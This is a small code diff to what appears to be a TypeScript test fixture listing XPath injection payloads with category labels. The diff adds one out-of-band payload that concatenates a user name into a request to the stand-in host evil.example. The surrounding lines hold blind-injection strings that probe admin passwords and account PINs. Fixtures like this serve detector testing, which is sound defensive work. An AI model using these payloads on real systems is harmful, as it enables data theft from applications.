@@ -19,6 +19,7 @@ const attacks: [string, string][] = [
   ["' and string-length(name(/*[1]))=4 and '1'='1", 'xpathi-blind-function'],
   ["x') or starts-with(//account[1]/@pin,'1') or ('", 'xpathi-blind-function'],
   ["' or //user[name='admin']/password/text()='a' or 'a'='b", 'xpathi-blind-function'],
+  ["' or doc-available(concat('http://evil.example/',//user[1]/name)) or '", 'xpathi-blind-function'],
   // out of a numeric predicate: no quote
   ['1 or 1=1]|//*|//*[1=1', 'xpathi-union'],
 ];
